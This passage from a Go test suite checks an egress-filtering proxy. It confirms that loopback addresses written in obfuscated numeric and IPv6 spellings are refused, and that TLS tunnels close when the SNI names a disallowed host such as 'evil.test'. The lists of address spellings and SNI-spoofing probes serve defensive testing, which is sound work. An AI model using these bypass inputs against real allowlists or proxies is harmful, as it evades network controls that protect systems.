				line("connect "+s, "CONNECT "+a+" HTTP/1.1\\r\\nHost: "+a+"\\r\\n\\r\\n")
			}
			res, _ := proxyRun(t, id, n, nil, nil, script.String())
			for _, s := range spellings {
				for _, k := range []string{"get " + s, "connect " + s} {
					v, ok := lineValue(res.stdout, k)
					if !ok {
						t.Errorf("%s: no output\n%s", k, res)
						continue
					}
					if !strings.HasPrefix(v, "HTTP/1.1 403") && !strings.HasPrefix(v, "HTTP/1.1 400") {
						t.Errorf("%s: got %q, want 403 or 400", k, v)
					}
				}
			}
			return res
		}
		numeric := []string{"127.1", "2130706433", "0x7f000001", "0177.0.0.1", "127.0.0.01", "127.000.000.001", "0x7f.0.0.1", "0.0.0.0", "[::]", "0"}
		t.Run("as-written", func(t *testing.T) {
			n := egressNet{
				allow:   []ep{{"api.allowed.test", []int{port}}},
				private: []ep{{"127.0.0.1/32", []int{port}}, {"::1/128", []int{port}}},
				hosts:   map[string]string{"api.allowed.test": "127.0.0.2"},
			}
			probeAll(n, append(numeric, "127.0.0.1", "[::ffff:7f00:1]", "[::ffff:127.0.0.1]", "[0:0:0:0:0:ffff:7f00:1]", "[::1]", "127.0.0.1."), false)
			lo.assertUntouched(t, "the host's 127.0.0.1 listener")
			if lo6 != nil {
				lo6.assertUntouched(t, "the host's [::1] listener")
			}
		})
		t.Run("strict", func(t *testing.T) {
			n := egressNet{
				allow:   []ep{{"127.0.0.1", []int{port}}},
				private: []ep{{"127.0.0.1/32", []int{port}}},
			}
			before := lo.accepts.Load()
			res := probeAll(n, numeric, true)
			want(t, res, "control-get", "HTTP/1.1 200", true)
			want(t, res, "control-connect", "HTTP/1.1 200", true)
			time.Sleep(100 * time.Millisecond)
			// The control GET connects; the control CONNECT may not (the
			// proxy can wait for the client's first bytes before dialing).
			if a := lo.accepts.Load() - before; a < 1 || a > 2 {
				t.Errorf("the upstream on 127.0.0.1 accepted %d connections, want only the controls' (1 or 2); requests %q", a, lo.requests())
			}
			if lo6 != nil {
				lo6.assertUntouched(t, "the host's [::1] listener")
			}
		})
	})
}

// P24: after CONNECT to an allowed name, a TLS ClientHello whose SNI
// names another host (or no host) closes the tunnel; the upstream sees no
// ClientHello. The control with the right SNI completes a request.
func TestP24_SNIMismatch(t *testing.T) {
	eachIdent(t, func(t *testing.T, id *ident) {
		s := newUpstream(t, "127.0.0.3", 0, true)
		n := egressNet{
			allow:   []ep{{"tls.allowed.test", []int{s.port}}, {s.ip, []int{s.port}}},
			private: []ep{{s.ip + "/32", []int{s.port}}},
			hosts:   map[string]string{"tls.allowed.test": s.ip},
		}
		target := s.hostPort("tls.allowed.test")
		var script strings.Builder
		// An allowed IP literal: no SNI is fine, an SNI naming a host is not.
		ipTarget := s.hostPort(s.ip)
		fmt.Fprintf(&script, "%s sni %s %s evil.test | sed 's/^sni:/sni-ipliteral-evil:/'\n", probeBin, proxyAddr, ipTarget)
		fmt.Fprintf(&script, "%s sni %s %s - | sed 's/^sni:/sni-ipliteral-none:/'\n", probeBin, proxyAddr, ipTarget)
		for _, c := range [][2]string{{"evil", "evil.test"}, {"none", "-"}, {"suffix", "tls.allowed.test.evil.test"}, {"ip", s.ip}, {"control", "tls.allowed.test"}} {
			fmt.Fprintf(&script, "%s sni %s %s %s | sed 's/^sni:/sni-%s:/'\n", probeBin, proxyAddr, target, c[1], c[0])
		}
		if _, err := exec.LookPath("openssl"); err == nil {
			fmt.Fprintf(&script, "openssl s_client -proxy %s -connect %s -servername evil.test </dev/null >/dev/null 2>&1; echo \"openssl-evil: $?\"\n", proxyAddr, target)
		}
		res, _ := proxyRun(t, id, n, nil, nil, script.String())
		want(t, res, "sni-control", "ok 200", false)
		want(t, res, "sni-ipliteral-none", "ok 200", false)
		for _, k := range []string{"sni-evil", "sni-none", "sni-suffix", "sni-ip", "sni-ipliteral-evil"} {
			want(t, res, k, "handshake:", true)
		}
		if v, ok := lineValue(res.stdout, "openssl-evil"); ok && v == "0" {
			t.Errorf("openssl s_client -servername evil.test through the tunnel succeeded\n%s", res)
		}
		if h := s.hellos.Load(); h != 2 {
			t.Errorf("the upstream saw %d TLS ClientHellos, want 2 (the controls: right SNI, and no SNI to an allowed IP literal)", h)
		}
	})
}
